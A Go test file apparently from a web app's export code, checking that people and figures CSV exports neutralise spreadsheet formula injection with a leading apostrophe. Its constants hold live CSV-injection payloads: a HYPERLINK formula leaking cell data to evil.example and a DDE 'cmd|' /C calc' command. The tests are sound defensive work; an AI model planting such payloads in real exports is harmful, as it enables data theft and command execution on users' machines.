package web

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/ally-dev/ally/internal/center"
)

// Cells a spreadsheet would run: each must come out of an export with a
// leading apostrophe.
const (
	hostileName = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	hostileOrg  = "-2+3+cmd|' /C calc'!A0"
	hostileRole = "@SUM(A1:A9)"
)

// checkNoFormula reads a CSV file and fails on a cell a spreadsheet
// would run as a formula, and on a want cell missing.
func checkNoFormula(t *testing.T, body string, want ...string) {
	t.Helper()
	cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\uFEFF")))
	cr.FieldsPerRecord = -1
	rows, err := cr.ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, body)
	}
	cells := map[string]bool{}
	for _, row := range rows {
		for _, c := range row {
			cells[c] = true
			if c == "" || !strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				continue
			}
			if strings.Trim(c, "0123456789 +-().,#*/%") != "" {
				t.Errorf("a formula reached the CSV: %q", c)
			}
		}
	}
	for _, w := range want {
		if !cells[w] {
			t.Errorf("no cell %q in\n%s", w, body)
		}
	}
}

func TestPeopleCSVNeutralisesFormulas(t *testing.T) {
	eachDB(t, false, func(t *testing.T, b *browser) {
		b.follow("/people", url.Values{"name": {hostileName}, "org": {hostileOrg}, "role": {hostileRole}, "tags": {"=tag"}})
		r := b.get("/export/people.csv")
		if r.status != http.StatusOK {
			t.Fatalf("status %d", r.status)
		}
		checkNoFormula(t, r.body, "'"+hostileOrg, "'"+hostileRole)
		if !strings.Contains(r.body, `'=HYPERLINK(`) {
			t.Errorf("the name is not neutralised:\n%s", r.body)
		}
	})
}

func TestFiguresCSVNeutralisesFormulasAndKeepsNumbers(t *testing.T) {
	share := -0.25
	g := center.NewGroup(hostileName, "")
	g.Figures = center.Figures{RequestsSent: 3, AcceptanceRate: &share}
	f := center.Figures{
		RequestsSent: 3, AcceptanceRate: &share,
		By:                  []center.Group{g},
		MostAsked:           []center.Asked{{Name: hostileRole, Requests: 2}},
		LeastAsked:          []center.Asked{{Name: "\t=1+1", Requests: 1}},
		DemandOutrunsSupply: []center.Demand{{Field: hostileOrg, Requests: 5, Capacity: 2}},
	}
	for _, tt := range []struct {
		table string
		want  []string
	}{
		{"", []string{"'" + hostileName, "3", "-25%", "All fields"}},
		{"asked", []string{"'" + hostileRole, "'\t=1+1", "2", "1"}},
		{"demand", []string{"'" + hostileOrg, "5", "2"}},
	} {
		t.Run("table="+tt.table, func(t *testing.T) {
			var buf bytes.Buffer
			if err := writeFiguresCSV(&buf, f, center.ByField, tt.table); err != nil {
				t.Fatal(err)
			}
			checkNoFormula(t, buf.String(), tt.want...)
		})
	}
}
